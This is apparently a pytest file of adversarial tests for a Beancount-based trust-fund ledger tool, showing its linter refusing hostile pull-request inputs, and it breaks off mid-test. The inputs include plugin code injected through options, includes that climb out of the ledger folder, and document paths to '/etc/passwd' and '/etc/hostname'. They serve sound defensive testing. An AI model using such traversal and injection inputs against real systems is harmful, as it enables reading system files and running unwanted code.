"""Issue 7, tried as a hostile treasurer would: every named attack, and another spelling of each class.

The treasurer works for the trustee, the party the owners supervise, so every
file a pull request brings is hostile. Each test below writes what such a pull
request could bring — the instance issue 7 names and at least one spelling it
does not — and shows it refused through the real code paths: the source lint
and the rules (``repo.check()``, as ``trustfund check`` runs them), Beancount's
own loader (``repo.load()``, as ``bean-check`` and Fava run them, where the
``safety`` rule refuses with the lint's rule id), real git with real SSH keys
(``trustfund verify`` and closed months), and the command line (no traceback,
exit codes 0/1/2). Every assertion names the rule id and the file:line.
"""

from __future__ import annotations

import contextlib
import csv
import io
import os
import re
import struct
import subprocess
import sys
import time
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

import pytest
from beancount.core import data
from pypdf import PdfWriter

from generator.audit.verify import verify
from generator.books import load_books
from generator.cli import main
from generator.findings import Finding, from_error
from generator.site.downloads import write_ledger_zip, write_transactions_zip
from generator.site.pages import SiteBuilder
from generator.view import build_view
from tests.conftest import ACCOUNTS, BUDGET_2026, MAIN, PROFILE, VOTE, Repo, only
from tests.test_verify import MARCH, Signed

JOURNAL = "ledgers/test/2026/03.beancount"
MAIN_FILE = "ledgers/test/main.beancount"
ACCOUNTS_FILE = "ledgers/test/accounts.beancount"
MAIN_LINES = len(MAIN.splitlines())
ACCOUNTS_LINES = len(ACCOUNTS.splitlines())
Place = tuple[str, int, str]


def places(findings: list[Finding]) -> list[Place]:
    return [(finding.path, finding.line, finding.rule) for finding in findings]


def loaded(repo: Repo) -> list[Finding]:
    """What Beancount's own loader reports (as bean-check and Fava would), as findings."""
    _, errors, _ = repo.load()
    return [from_error(error, repo.root) for error in errors]


def no_traceback(findings: list[Finding]) -> None:
    assert all("Traceback" not in f.message and "internal error" not in f.message for f in findings), findings


def add_accounts(repo: Repo, text: str) -> None:
    """Open more accounts in accounts.beancount (the first added line is ACCOUNTS_LINES + 1)."""
    repo.write(ACCOUNTS_FILE, ACCOUNTS + text)


def command(repo: Repo, *args: str) -> subprocess.CompletedProcess[str]:
    """``python -m generator`` in a process of its own, as CI runs it."""
    return subprocess.run([sys.executable, "-m", "generator", "--root", str(repo.root), *args],
                          capture_output=True, text=True, timeout=300)


# 1. Lint by the parser: options, plugins and includes in any spelling, files the books do not use.


ATTACK_PLUGIN = """\
from pathlib import Path

Path({marker!r}).write_text("the books ran code", encoding="utf-8")
__plugins__ = ("switch_off",)


def switch_off(entries, options_map):
    return [], []
"""


def test_an_option_without_spaces_cannot_make_check_import_code_beside_the_ledger(repo: Repo, tmp_path: Path) -> None:
    marker = tmp_path / "imported"
    repo.write("ledgers/test/trustfund_attack_a.py", ATTACK_PLUGIN.format(marker=str(marker)))
    repo.write(MAIN_FILE, 'option"insert_pythonpath""TRUE"\nplugin"trustfund_attack_a"\n' + MAIN)
    findings = repo.check()
    assert places(findings) == [(MAIN_FILE, 1, "lint-option"), (MAIN_FILE, 2, "lint-plugin"),
                                ("ledgers/test/trustfund_attack_a.py", 0, "lint-file")]
    assert 'option "insert_pythonpath" is not allowed' in findings[0].message
    assert 'plugin "trustfund_attack_a" is not allowed' in findings[1].message
    assert "is not a file the books use" in findings[2].message
    with contextlib.redirect_stdout(io.StringIO()):
        assert main(["--root", str(repo.root), "check"]) == 1
    assert not marker.exists(), "trustfund check imported code from the pull request"


def test_the_loader_refuses_insert_pythonpath_without_spaces_in_main(repo: Repo) -> None:
    repo.write(MAIN_FILE, MAIN + 'option"insert_pythonpath""TRUE"\n')
    findings = loaded(repo)
    assert places(findings) == [(MAIN_FILE, MAIN_LINES + 1, "lint-option")]
    assert 'option "insert_pythonpath" is not allowed' in findings[0].message


def test_insert_pythonpath_with_tabs_in_an_included_journal_is_refused_where_it_is_written(repo: Repo) -> None:
    repo.journal('; March 2026\noption\t"insert_pythonpath"\t"TRUE"\n')
    repo.write("ledgers/test/2026/trustfund_attack_b.py", "__plugins__ = ()\n")
    findings = repo.check()
    assert places(findings) == [(JOURNAL, 2, "lint-option"), ("ledgers/test/2026/trustfund_attack_b.py", 0,
                                                              "lint-file")]
    assert 'option "insert_pythonpath" is not allowed' in findings[0].message
    # Under bean-check an included file's insert_pythonpath shows up as options_map["pythonpath"].
    _, _, options = repo.load()
    assert options["pythonpath"] == [str(repo.compound / "2026")]
    assert loaded(repo) == findings[:1]


def test_a_plugin_without_spaces_is_refused_by_the_lint_and_the_loader(repo: Repo) -> None:
    repo.write(MAIN_FILE, MAIN + 'plugin"trustfund_attack_absent"\n')
    findings = repo.check()
    assert places(findings) == [(MAIN_FILE, MAIN_LINES + 1, "lint-plugin")]
    assert 'plugin "trustfund_attack_absent" is not allowed' in findings[0].message
    [refused] = only(loaded(repo), "lint-plugin")
    assert (refused.path, refused.line) == (MAIN_FILE, MAIN_LINES + 1)


@pytest.mark.parametrize("line", ['plugin"beancount.plugins.auto_accounts"', 'plugin\t"generator.rules.voucher"\t"x"'])
def test_another_plugin_spelling_in_a_journal_is_refused(repo: Repo, line: str) -> None:
    repo.journal(f"; March 2026\n{line}\n")
    findings = repo.check()
    assert places(findings) == [(JOURNAL, 2, "lint-plugin")]
    assert "is not allowed" in findings[0].message


def test_an_allowed_plugin_in_a_journal_is_refused_as_out_of_place(repo: Repo) -> None:
    repo.journal('; March 2026\nplugin"beancount.plugins.nounused"\n')
    findings = repo.check()
    assert places(findings) == [(JOURNAL, 2, "lint-plugin")]
    assert "belongs in main.beancount" in findings[0].message


def test_an_include_without_spaces_outside_the_compound_is_refused_by_the_lint_and_the_loader(repo: Repo) -> None:
    repo.write("other/main.beancount", '2026-03-02 * "示例五金店" "灯具"\n  voucher: "2026-0009"\n'
               "  Expenses:Repairs   900.00 CNY\n  Assets:Bank:Fund\n")
    repo.write(MAIN_FILE, MAIN + 'include"../../other/main.beancount"\n')
    findings = repo.check()
    assert places(findings) == [(MAIN_FILE, MAIN_LINES + 1, "lint-include")]
    assert 'include "../../other/main.beancount" must name .beancount files inside ledgers/test/' in findings[0].message
    [refused] = only(loaded(repo), "lint-include")
    assert (refused.path, refused.line) == (MAIN_FILE, MAIN_LINES + 1)
    assert refused.message == findings[0].message


def test_an_absolute_include_without_spaces_is_refused_by_the_lint_and_the_loader(repo: Repo) -> None:
    outside = repo.write("elsewhere/x.beancount", "")
    repo.write(MAIN_FILE, MAIN + f'include"{outside}"\n')
    assert places(repo.check()) == [(MAIN_FILE, MAIN_LINES + 1, "lint-include")]
    assert places(only(loaded(repo), "lint-include")) == [(MAIN_FILE, MAIN_LINES + 1, "lint-include")]


def test_an_include_whose_glob_reaches_another_compound_is_refused(repo: Repo) -> None:
    repo.write("ledgers/other/main.beancount", "")
    repo.journal('; March 2026\ninclude"../../*/main.beancount"\n')
    findings = [f for f in repo.check() if f.path == JOURNAL]
    assert places(findings) == [(JOURNAL, 2, "lint-include")]


def test_a_tolerance_option_that_would_book_900_as_10_is_refused(repo: Repo) -> None:
    repo.write(MAIN_FILE, MAIN + 'option"inferred_tolerance_default""CNY:1000"\n')
    repo.journal('2026-03-02 * "示例五金店" "灯具"\n  voucher: "2026-0002"\n  Expenses:Repairs   10.00 CNY\n'
                 "  Assets:Bank:Fund   -900.00 CNY\n")
    findings = repo.check()
    assert places(findings) == [(MAIN_FILE, MAIN_LINES + 1, "lint-option")]
    assert 'option "inferred_tolerance_default" is not allowed' in findings[0].message
    assert (MAIN_FILE, MAIN_LINES + 1, "lint-option") in places(loaded(repo))


def test_the_tolerance_multiplier_under_its_old_name_is_refused(repo: Repo) -> None:
    # Main sets the tolerance to "0" on line 3, then to 1000 under the old name: the last one counts.
    repo.write(MAIN_FILE, MAIN + 'option"inferred_tolerance_multiplier""1000"\n')
    findings = repo.check()
    assert places(findings) == [(MAIN_FILE, MAIN_LINES + 1, "beancount"), (MAIN_FILE, MAIN_LINES + 1, "lint-option")]
    assert "Renamed to 'tolerance_multiplier'" in findings[0].message
    assert 'tolerance_multiplier must be "0", not "1000"' in findings[1].message
    assert places(only(loaded(repo), "lint-option")) == [(MAIN_FILE, MAIN_LINES + 1, "lint-option")]


def test_a_tolerance_option_with_tabs_in_a_journal_is_refused(repo: Repo) -> None:
    repo.journal('option\t"inferred_tolerance_default"\t"*:1000"\n2026-03-02 * "示例五金店" "灯具"\n'
                 '  voucher: "2026-0002"\n  Expenses:Repairs   10.00 CNY\n  Assets:Bank:Fund   -900.00 CNY\n')
    findings = repo.check()
    assert places(findings) == [(JOURNAL, 1, "lint-option")]
    assert 'option "inferred_tolerance_default" is not allowed' in findings[0].message
    # Beancount ignores an option in an included file: the loader books 900 as 900 and the entry does not balance.
    assert any((f.path, f.line) == (JOURNAL, 2) and "does not balance" in f.message for f in loaded(repo))


def test_options_in_an_included_journal_are_refused_in_any_spelling(repo: Repo) -> None:
    repo.journal('option "title" "另一个花园"\noption"operating_currency""USD"\n')
    findings = repo.check()
    assert places(findings) == [(JOURNAL, 1, "lint-option"), (JOURNAL, 2, "lint-option")]
    assert 'option "title" belongs in main.beancount' in findings[0].message
    assert 'option "operating_currency" belongs in main.beancount' in findings[1].message


@pytest.mark.parametrize("relative", ["ledgers/test/2026/3.beancount", "ledgers/test/drafts/03.beancount",
                                      "ledgers/test/2026/03/extra.beancount"])
def test_a_ledger_file_no_include_reaches_is_refused(repo: Repo, relative: str) -> None:
    repo.write(relative, '2026-03-02 * "示例五金店" "灯具"\n  voucher: "2026-0002"\n  Expenses:Repairs   10.00 CNY\n'
               "  Assets:Bank:Fund\n")
    findings = repo.check()
    assert places(findings) == [(relative, 0, "lint-include")]
    assert "is not included from main.beancount" in findings[0].message


@pytest.mark.parametrize("relative", ["evil.py", "page.html", "README.md",  # named in issue 7
                                      "2026/plugin.PY", "__init__.py", "Makefile", "2026/03.beancount.orig",
                                      "sitecustomize.pth", "03.Beancount"])
def test_a_file_the_books_do_not_use_is_refused_beside_the_ledger(repo: Repo, relative: str) -> None:
    repo.write(f"ledgers/test/{relative}", "import os\n")
    findings = repo.check()
    assert places(findings) == [(f"ledgers/test/{relative}", 0, "lint-file")]
    assert "is not a file the books use" in findings[0].message


# 2. Fava: options that run code or name files, hand-written budgets, documents outside vouchers/.


def test_fava_options_that_run_code_or_name_files_are_refused_and_removed(books: Repo) -> None:
    """
    2026-03-01 custom "fava-option" "import-config" "vouchers/x.py"
    2026-03-01 custom "fava-option" "import-dirs" "vouchers"
    2026-03-01 custom "fava-option" "default-file" "../../../etc/passwd"
    2026-03-01 custom "fava-option" "extensions" "vouchers.x"
    2026-03-01 custom "fava-option" "language" "zh"
    """
    expected = [(JOURNAL, line, "lint-plugin") for line in (1, 2, 3, 4)]
    findings = books.check()
    assert places(findings) == expected
    for finding, key in zip(findings, ("import-config", "import-dirs", "default-file", "extensions"), strict=True):
        assert f'custom "fava-option" "{key}" is not allowed: it runs code or names files' in finding.message
    assert places(loaded(books)) == expected
    entries, _, _ = books.load()
    # Of the options written in the journal only the harmless one is left (the rules add their own in memory,
    # at the top file).
    assert [entry.values[0].value for entry in entries if isinstance(entry, data.Custom)
            and entry.type == "fava-option" and entry.meta["filename"].endswith(JOURNAL)] == ["language"]


def test_a_fava_option_that_only_changes_the_display_passes(books: Repo) -> None:
    """
    2026-03-01 custom "fava-option" "language" "zh"
    2026-03-01 custom "fava-option" "fiscal-year-end" "12-31"
    """
    assert books.check() == []
    assert loaded(books) == []


def test_a_hand_written_budget_and_documents_outside_vouchers_are_refused(books: Repo) -> None:
    """
    2026-03-01 custom "budget" Expenses:Repairs "year" 99999.00 CNY
    2026-03-02 document Assets:Bank:Fund "../compound.yaml"
    2026-03-02 document Assets:Bank:Fund "/etc/hostname"
    2026-03-02 document Assets:Bank:Fund "../vouchers/../main.beancount"
    2026-03-02 document Assets:Bank:Fund "../vouchers/2026/03/statement.pdf"
    """
    books.voucher_file("2026/03/statement.pdf")
    expected = [(JOURNAL, line, "lint-directive") for line in (1, 2, 3, 4)]
    findings = books.check()
    assert places(findings) == expected
    assert 'custom "budget" is not allowed: budgets come from budgets/<id>/<YYYY>.yaml' in findings[0].message
    assert all("must name a file under vouchers/" in finding.message for finding in findings[1:])
    assert places(only(loaded(books), "lint-directive")) == expected
    entries, _, _ = books.load()
    assert not [entry for entry in entries if isinstance(entry, data.Custom) and entry.type == "budget"
                and entry.meta.get("filename") == str(books.root / JOURNAL)]
    assert [Path(entry.filename).name for entry in entries if isinstance(entry, data.Document)] == ["statement.pdf"]


def test_a_hand_written_budget_in_the_chart_of_accounts_is_refused(repo: Repo) -> None:
    add_accounts(repo, '2026-01-01 custom "budget" Expenses:Cleaning "monthly" 1.00 CNY\n')
    assert places(repo.check()) == [(ACCOUNTS_FILE, ACCOUNTS_LINES + 1, "lint-directive")]
    assert places(only(loaded(repo), "lint-directive")) == [(ACCOUNTS_FILE, ACCOUNTS_LINES + 1, "lint-directive")]


# 3. Metadata keys that belong to Beancount's loader.


def test_filename_metadata_no_longer_makes_an_entry_look_generated(books: Repo) -> None:
    """
    2026-03-02 * "示例五金店" "灯具 联系13912345678"
      filename: "<x>"
      Expenses:Repairs   800.00 CNY
      Assets:Bank:Fund
    """
    findings = books.check()
    assert places(findings) == [(JOURNAL, 2, "lint-metadata")]
    assert "metadata key 'filename:' is reserved for Beancount's loader" in findings[0].message
    under_loader = loaded(books)
    assert (JOURNAL, 2, "lint-metadata") in places(under_loader)
    # It used to skip the voucher, evidence and privacy rules: under the loader they all still run.
    assert {"voucher", "evidence", "privacy"} <= {f.rule for f in under_loader}


def test_lineno_metadata_on_a_posting_is_refused_at_its_line(books: Repo) -> None:
    """
    2026-03-02 * "示例五金店" "灯泡"
      voucher: "2026-0002"
      Expenses:Repairs   20.00 CNY
        lineno: 5
      Assets:Bank:Fund
    """
    findings = books.check()
    [reserved] = only(findings, "lint-metadata")
    assert (reserved.path, reserved.line) == (JOURNAL, 4)
    assert "metadata key 'lineno:' is reserved" in reserved.message
    assert (JOURNAL, 4, "lint-metadata") in places(loaded(books))


@pytest.mark.parametrize(("journal", "lines"), [
    ('2026-03-02 * "示例五金店" "灯泡"\n  voucher: "2026-0002"\n  lineno: 5\n  Expenses:Repairs   20.00 CNY\n'
     "  Assets:Bank:Fund\n", [3]),
    ('pushmeta filename: "<generated>"\n2026-03-02 * "示例五金店" "灯泡"\n  Expenses:Repairs   900.00 CNY\n'
     "  Assets:Bank:Fund\npopmeta filename:\n", [1, 5]),
    ('2026-03-02 * "示例五金店" "灯泡"\n  voucher: "2026-0002"\n  filename: "{accounts}"\n'
     "  Expenses:Repairs   20.00 CNY\n  Assets:Bank:Fund\n", [3]),
], ids=["lineno-on-a-transaction", "pushmeta-filename", "filename-of-another-ledger-file"])
def test_other_spellings_of_reserved_metadata_are_refused(repo: Repo, journal: str, lines: list[int]) -> None:
    repo.journal(journal.replace("{accounts}", str(repo.root / ACCOUNTS_FILE)))
    expected = [(JOURNAL, line, "lint-metadata") for line in lines]
    assert places(only(repo.check(), "lint-metadata")) == expected
    assert places(only(loaded(repo), "lint-metadata")) == expected


# 4. Closed months, closed years, merges and signers, with real git and real SSH keys.


@pytest.fixture
def signed(tmp_path: Path) -> Signed:
    return Signed(tmp_path / "books")


def closed_findings(repo: Repo) -> list[Place]:
    return places(only(repo.check(), "closed-month"))


@pytest.mark.parametrize("spelling", ["2026/03/02", "2026-3-2", "2026/3/2"])
def test_a_closed_entry_changed_under_another_date_spelling_is_refused(signed: Signed, spelling: str) -> None:
    signed.close("2026-03")
    signed.journal(MARCH.format(amount="1000.01").replace("2026-03-02", spelling))
    signed.commit("treasurer", "a quiet correction to March")
    assert signed.refusals() == [("verify-closed-month", "changed an entry dated 2026-03-02 (2026-0002) in test, "
                                  "closed through 2026-03 by close/test/2026-03; correct it with an adjusting "
                                  "entry in an open month")]
    [finding] = only(signed.check(), "closed-month")
    assert (finding.path, finding.line) == (JOURNAL, 1)
    assert finding.message.startswith("changed an entry dated 2026-03-02 (2026-0002), but test is closed through "
                                      "2026-03")


def test_reformatting_a_closed_month_is_not_a_change(signed: Signed) -> None:
    signed.close("2026-03")
    journal = signed.root / JOURNAL
    before = journal.read_text(encoding="utf-8")
    bean_format = Path(sys.executable).parent / "bean-format"
    subprocess.run([str(bean_format), "--currency-column", "70", "--in-place", str(journal)], check=True)
    formatted = journal.read_text(encoding="utf-8")
    assert formatted != before
    signed.commit("treasurer", "bean-format")
    assert signed.refusals() == []
    assert closed_findings(signed) == []
    # And by hand: another date spelling, other spacing, a comment — nothing Beancount parses differently.
    journal.write_text("; 三月 March, reformatted\n\n" + formatted.replace("2026-03-02", "2026/03/02")
                       .replace("  Income:PropertyFees", "\tIncome:PropertyFees"), encoding="utf-8")
    signed.commit("treasurer", "respelt by hand")
    assert signed.refusals() == []
    assert closed_findings(signed) == []


BUDGET_2025 = BUDGET_2026.replace("year: 2026", "year: 2025")


def close_2025(signed: Signed) -> None:
    """A 2025 budget in the books, then 2025 closed (its December), and the range starting after it."""
    signed.write("budgets/test/2025.yaml", BUDGET_2025)
    signed.commit("committee", "the 2025 budget as approved")
    signed.base = signed.head()
    signed.close("2025-12")


def test_a_closed_years_budget_is_frozen(signed: Signed) -> None:
    close_2025(signed)
    assert signed.check() == []
    signed.write("budgets/test/2025.yaml", BUDGET_2025.replace("Expenses:Cleaning: 10000.00",
                                                               "Expenses:Cleaning: 90000.00"))
    signed.commit("committee", "2025 budget, rewritten after the year closed")
    assert signed.refusals() == [("verify-closed-month", "changed the budget of 2025 (budgets/test/2025.yaml) in "
                                  "test, closed through 2025-12 by close/test/2025-12; correct it with an "
                                  "adjusting entry in an open month")]
    assert closed_findings(signed) == [("budgets/test/2025.yaml", 1, "closed-month")]


def test_a_closed_years_budget_cannot_be_removed_but_may_be_reformatted(signed: Signed) -> None:
    close_2025(signed)
    quoted = BUDGET_2025.replace("10000.00", '"10000.00"').replace("approved_by: 2025-12-20-budget-vote",
                                                                  "approved_by: '2025-12-20-budget-vote'")
    signed.write("budgets/test/2025.yaml", "# 2025年度预算（格式整理）\n" + quoted)
    signed.commit("committee", "2025 budget, quoted")
    assert signed.refusals() == []
    (signed.root / "budgets/test/2025.yaml").unlink()
    signed.commit("committee", "2025 budget, removed")
    assert [(rule, message.split(" in test,")[0]) for rule, message in signed.refusals()] == [
        ("verify-closed-month", "removed the budget of 2025 (budgets/test/2025.yaml)")]
    assert closed_findings(signed) == [("budgets/test/2025.yaml", 1, "closed-month")]


def test_a_notice_dated_in_a_closed_month_is_frozen(signed: Signed) -> None:
    signed.close("2025-12")
    notice = "notices/test/2025-12-20-budget-vote.md"
    signed.write(notice, VOTE.replace("for: 70", "for: 79"))
    signed.commit("committee", "the vote, recounted")
    assert signed.refusals() == [("verify-closed-month", f"changed a notice ({notice}) in test, closed through "
                                  "2025-12 by close/test/2025-12; correct it with an adjusting entry in an open "
                                  "month")]
    assert closed_findings(signed) == [(notice, 1, "closed-month")]


def test_a_notice_added_with_a_date_in_a_closed_month_is_refused(signed: Signed) -> None:
    signed.close("2025-12")
    notice = "notices/test/2025-12-31-late-minutes.md"
    signed.write(notice, "---\ntitle: 补记会议纪要\ndate: 2025-12-31\nkind: minutes\n---\n补记。\n")
    signed.commit("committee", "minutes, filed late")
    assert [(rule, message.split(" in test,")[0]) for rule, message in signed.refusals()] == [
        ("verify-closed-month", f"added a notice ({notice})")]
    assert closed_findings(signed) == [(notice, 1, "closed-month")]


def old_branch_merged_after_the_close(signed: Signed, change: Callable[[Signed], None]) -> tuple[str, str]:
    """A branch made before the close changes March; main moves on and closes March; then main is merged into
    the old branch (first parent: the old branch). Returns (the old branch's commit, the merge)."""
    signed.git("checkout", "-q", "-b", "old")
    change(signed)
    late = signed.commit("treasurer", "March, late")
    signed.git("checkout", "-q", "main")
    signed.write("ledgers/test/2026/04.beancount", MARCH.format(amount="5.00").replace("03-02", "04-02")
                 .replace("2026-0002", "2026-0003"))
    signed.commit("treasurer", "April")
    signed.close("2026-03")
    signed.git("checkout", "-q", "old")
    signed.git("merge", "-q", "--no-ff", "-m", "Merge branch 'main' into old", "main")
    merge = signed.head()
    assert signed.git("log", "-1", "--format=%P").split()[0] == late
    return late, merge


def change_march(signed: Signed) -> None:
    signed.journal(MARCH.format(amount="1200.00"))


def move_march_into_the_may_file(signed: Signed) -> None:
    (signed.root / JOURNAL).unlink()
    signed.write("ledgers/test/2026/05.beancount", MARCH.format(amount="1.00").replace("2026-03-02", "2026/3/2"))


@pytest.mark.parametrize("change", [change_march, move_march_into_the_may_file])
def test_merging_main_into_a_branch_made_before_the_close_is_refused(signed: Signed,
                                                                      change: Callable[[Signed], None]) -> None:
    late, merge = old_branch_merged_after_the_close(signed, change)
    refusals = verify(signed.root, f"{signed.base}..HEAD")
    assert [(r.commit, r.rule) for r in refusals] == [(merge, "verify-closed-month")]
    assert refusals[0].message.startswith("changed an entry dated 2026-03-02 (2026-0002) in test, closed through "
                                          "2026-03 by close/test/2026-03")
    assert late not in {r.commit for r in refusals}
    assert [rule for _, _, rule in closed_findings(signed)] == ["closed-month"]


def remove_treasurer(profile: str) -> str:
    return "".join(line for line in profile.splitlines(keepends=True) if "principal: treasurer-t" not in line)


def demote_treasurer(profile: str) -> str:
    return profile.replace("principal: treasurer-t, role: treasurer", "principal: treasurer-t, role: supervisor")


@pytest.mark.parametrize("change_signers", [remove_treasurer, demote_treasurer])
def test_a_removed_treasurer_signs_nothing_after_the_removal_but_earlier_commits_verify(
        signed: Signed, change_signers: Callable[[str], str]) -> None:
    signed.journal(MARCH.format(amount="1200.00"))
    earlier = signed.commit("treasurer", "March, before leaving")
    profile = signed.root / "ledgers/test/compound.yaml"
    signed.write("ledgers/test/compound.yaml", change_signers(profile.read_text(encoding="utf-8")))
    removal = signed.commit("committee", "treasurer-t leaves the treasury")
    signed.write("ledgers/test/2026/04.beancount", MARCH.format(amount="5.00").replace("03-02", "04-02")
                 .replace("2026-0002", "2026-0003"))
    later = signed.commit("treasurer", "April, after leaving")
    refusals = verify(signed.root, f"{signed.base}..HEAD")
    assert [(r.commit, r.rule) for r in refusals] == [(later, "verify-role")]
    assert "treasurer-t (test treasurer) may not change ledgers/test/2026/04.beancount: an earlier commit removed " \
           "that key from the treasurers of test, so it signs nothing after its removal" in refusals[0].message
    assert earlier not in {r.commit for r in refusals} and removal not in {r.commit for r in refusals}
    assert verify(signed.root, f"{signed.base}..{removal}") == []


# 5. Where fund money may go.


def test_a_made_up_currency_priced_in_cny_is_refused(books: Repo) -> None:
    """
    2026-03-09 * "示例五金店" "灯具"
      voucher: "2026-0002"
      Expenses:Repairs    300.00 XCNY @ 1.00 CNY
      Assets:Bank:Fund
    """
    [finding] = only(books.check(), "currency")
    assert (finding.path, finding.line) == (JOURNAL, 3)
    assert "Expenses:Repairs is booked in XCNY, not in CNY" in finding.message


def test_an_undeclared_currency_is_refused_even_where_beancount_allows_it(books: Repo) -> None:
    """
    2026-03-09 * "示例五金店" "进口零件"
      voucher: "2026-0002"
      Expenses:Repairs:Parts    30.00 USD @ 7.10 CNY
      Assets:Bank:Fund

    2026-03-10 * "示例银行" "外币存款"
      voucher: "2026-0003"
      Assets:Bank:Fund:Forex    100.00 USD
      Equity:Opening:Forex     -100.00 USD
    """
    # Accounts opened without a currency list: Beancount itself accepts any commodity on them.
    add_accounts(books, "".join(f'2025-01-01 open {account}\n  name: "{zh}"\n  name_en: "{en}"\n'
                                for account, zh, en in (("Expenses:Repairs:Parts", "零件", "Parts"),
                                                        ("Assets:Bank:Fund:Forex", "外币", "Forex"),
                                                        ("Equity:Opening:Forex", "外币期初", "Forex opening"))))
    findings = books.check()
    assert places(only(findings, "currency")) == [(JOURNAL, 3, "currency"), (JOURNAL, 8, "currency"),
                                                  (JOURNAL, 9, "currency")]
    assert "Expenses:Repairs:Parts is booked in USD, not in CNY" in findings[0].message


def test_money_paid_to_a_vendor_from_the_fund_into_assets_or_equity_is_refused(books: Repo) -> None:
    """
    2026-03-10 * "示例电梯公司" "电梯维保预付款"
      voucher: "2026-0002"
      Assets:Prepaid        2000.00 CNY
      Assets:Bank:Fund

    2026-03-11 * "示例电梯公司" "维修"
      voucher: "2026-0003"
      Equity:Opening        3000.00 CNY
      Assets:Bank:Fund

    2026-03-12 * "示例电梯公司" "维修"
      voucher: "2026-0004"
      Assets:Bank:FundX     400.00 CNY
      Assets:Bank:Fund

    2026-03-13 * "示例电梯公司" "维修"
      voucher: "2026-0005"
      Expenses:Repairs       100.00 CNY
      Equity:Adjustments     300.00 CNY
      Assets:Bank:Fund
    """
    add_accounts(books, "".join(f'2025-01-01 open {account} CNY\n  name: "{zh}"\n  name_en: "{en}"\n'
                                for account, zh, en in (("Assets:Prepaid", "预付款", "Prepaid"),
                                                        ("Assets:Bank:FundX", "另一账户", "Another account"),
                                                        ("Equity:Adjustments", "调整", "Adjustments"))))
    findings = only(books.check(), "outflow")
    assert places(findings) == [(JOURNAL, line, "outflow") for line in (3, 8, 13, 19)]
    assert "2,000.00 CNY leaves the fund to Assets:Prepaid, which is not the fund" in findings[0].message
    assert "3,000.00 CNY leaves the fund to Equity:Opening" in findings[1].message
    assert "400.00 CNY leaves the fund to Assets:Bank:FundX" in findings[2].message
    assert "300.00 CNY leaves the fund to Equity:Adjustments" in findings[3].message


LIABILITIES = """\
2025-01-01 open Liabilities:Deposits CNY
  name: "装修押金"
  name_en: "Renovation deposits"
2025-01-01 open Liabilities:Quoted CNY
  name: "押金（引号）"
  name_en: "Deposits, quoted"
  liability: "TRUE"
2025-01-01 open Liabilities:Held CNY
  name: "代收押金"
  name_en: "Deposits held"
  liability: TRUE
2025-01-01 open Liabilities:Advance CNY
  name: "预收款"
  name_en: "Advance receipts"
  liability: TRUE
"""


def test_settling_a_liability_not_opened_with_liability_true_is_refused(books: Repo) -> None:
    """
    2026-03-10 * "示例装修公司" "装修押金"
      voucher: "2026-0002"
      Assets:Bank:Fund        1000.00 CNY
      Liabilities:Deposits

    2026-03-11 * "示例装修公司" "退装修押金"
      voucher: "2026-0003"
      Liabilities:Deposits    1000.00 CNY
      Assets:Bank:Fund

    2026-03-12 * "示例装修公司" "退押金"
      voucher: "2026-0004"
      Liabilities:Quoted      200.00 CNY
      Assets:Bank:Fund
    """
    add_accounts(books, LIABILITIES)
    findings = only(books.check(), "outflow")
    assert places(findings) == [(JOURNAL, line, "outflow") for line in (4, 8, 13)]
    assert all("is not opened with liability: TRUE" in finding.message for finding in findings)
    assert "Liabilities:Quoted" in findings[2].message


def test_settling_more_than_a_declared_liability_holds_is_refused(books: Repo) -> None:
    """
    2026-03-09 * "示例装修公司" "装修押金"
      voucher: "2026-0002"
      Assets:Bank:Fund        1000.00 CNY
      Liabilities:Held

    2026-03-12 * "示例装修公司" "退押金"
      voucher: "2026-0003"
      evidence: "2026/03/2026-0003-deposit.pdf"
      Liabilities:Held        1500.00 CNY
      Assets:Bank:Fund

    2026-03-09 * "5号楼业主" "预收物业费"
      voucher: "2026-0004"
      Assets:Bank:Fund        1000.00 CNY
      Liabilities:Advance

    2026-03-13 * "5号楼业主" "退预收款（一）"
      voucher: "2026-0005"
      Liabilities:Advance     400.00 CNY
      Assets:Bank:Fund

    2026-03-14 * "5号楼业主" "退预收款（二）"
      voucher: "2026-0006"
      Liabilities:Advance     400.00 CNY
      Assets:Bank:Fund

    2026-03-15 * "5号楼业主" "退预收款（三）"
      voucher: "2026-0007"
      Liabilities:Advance     400.00 CNY
      Assets:Bank:Fund
    """
    add_accounts(books, LIABILITIES)
    books.voucher_file("2026/03/2026-0003-deposit.pdf")
    findings = only(books.check(), "outflow")
    assert places(findings) == [(JOURNAL, 9, "outflow"), (JOURNAL, 29, "outflow")]
    assert "settles 1,500.00 CNY of Liabilities:Held, which holds only 1,000.00 CNY" in findings[0].message
    # Three settlements, each below the balance, together 200.00 more than was received in advance.
    assert "settles 400.00 CNY of Liabilities:Advance, which holds only 200.00 CNY" in findings[1].message


def test_a_negative_expense_must_name_a_voucher_that_spent_as_much_there(books: Repo) -> None:
    """
    2026-03-05 * "示例五金店" "灯具"
      voucher: "2026-0002"
      Expenses:Repairs    300.00 CNY
      Assets:Bank:Fund

    2026-03-06 * "示例五金店" "退款"
      voucher: "2026-0003"
      Assets:Bank:Fund    100.00 CNY
      Expenses:Repairs

    2026-03-07 * "示例五金店" "退款"
      voucher: "2026-0004"
      reverses: "2026-0002"
      Assets:Bank:Fund    400.00 CNY
      Expenses:Repairs

    2026-03-08 * "示例保洁服务有限公司" "退款"
      voucher: "2026-0005"
      reverses: "2026-0002"
      Assets:Bank:Fund    50.00 CNY
      Expenses:Cleaning

    2026-03-09 * "示例五金店" "退款（一）"
      voucher: "2026-0006"
      reverses: "2026-0002"
      Assets:Bank:Fund    200.00 CNY
      Expenses:Repairs

    2026-03-10 * "示例五金店" "退款（二）"
      voucher: "2026-0007"
      reverses: "2026-0002"
      Assets:Bank:Fund    200.00 CNY
      Expenses:Repairs
    """
    findings = only(books.check(), "outflow")
    assert places(findings) == [(JOURNAL, line, "outflow") for line in (9, 15, 21, 33)]
    assert "-100.00 CNY on Expenses:Repairs goes against the account's direction" in findings[0].message
    assert 'reverses: "YYYY-NNNN"' in findings[0].message
    assert "reverses 400.00 CNY of 2026-0002 on Expenses:Repairs, which booked only 300.00 CNY" in findings[1].message
    assert "reverses 2026-0002 but that voucher booked nothing on Expenses:Cleaning" in findings[2].message
    assert "reverses 400.00 CNY of 2026-0002 on Expenses:Repairs, which booked only 300.00 CNY" in findings[3].message


def test_a_refund_of_spending_must_come_back_to_the_fund(books: Repo) -> None:
    """
    2026-03-05 * "示例电梯公司" "维修"
      voucher: "2026-0002"
      Expenses:Repairs    3000.00 CNY
      Assets:Bank:Fund

    2026-03-06 * "示例电梯公司" "退维修费"
      voucher: "2026-0003"
      reverses: "2026-0002"
